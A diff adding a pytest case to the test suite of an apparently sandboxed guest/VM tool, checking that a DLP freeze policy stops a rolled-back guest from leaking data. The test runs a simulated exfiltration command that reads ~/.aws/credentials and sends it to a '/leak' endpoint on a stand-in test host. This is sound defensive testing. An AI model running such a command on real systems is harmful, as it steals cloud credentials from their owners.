@@ -148,6 +148,25 @@ def test_an_alert_freezes_where_the_policy_says_so(netcli: Cli, upstream: Upstre
     assert upstream.of("/leak") == []
 
 
+def test_an_alert_freezes_the_guest_that_a_rollback_brought(netcli: Cli, upstream: Upstream, tmp_path: Path) -> None:
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(upstream.policy("dlp: {freeze: true}"))
+    netcli("start", "--empty", "--policy", policy, "--name", "thin-ice")
+    guest = RootedGuest(netcli, "thin-ice")
+    try:
+        netcli("rollback", "thin-ice")
+        wait_for(lambda: fetch(guest, f"https://allowed.test:{upstream.port}/echo")[0] == "200", timeout=30, every=0.5)
+        script = f'python3 -c "$1" https://allowed.test:{upstream.port}/leak "BODY=$(cat ~/.aws/credentials)"'
+        leak = netcli.start("exec", "thin-ice", "--", "sh", "-c", script, "sh", FETCH)
+        wait_for(lambda: (guest.folder.path / "frozen").exists(), timeout=60)
+        assert row(guest)["state"] == "frozen"
+        leak.kill()
+        leak.communicate()
+    finally:
+        guest.stop()
+    assert upstream.of("/leak") == []
+
+
 def test_none_has_nothing_of_it(guest: Guest, tmp_path: Path) -> None:
     assert guest.sh("env | grep -ci -e proxy -e _ca -e cert; true") == "0"
     assert guest.sh("ls /etc/pip.conf /etc/npmrc /usr/local/share/ca-certificates/* ~/.aws 2>/dev/null; true") == ""
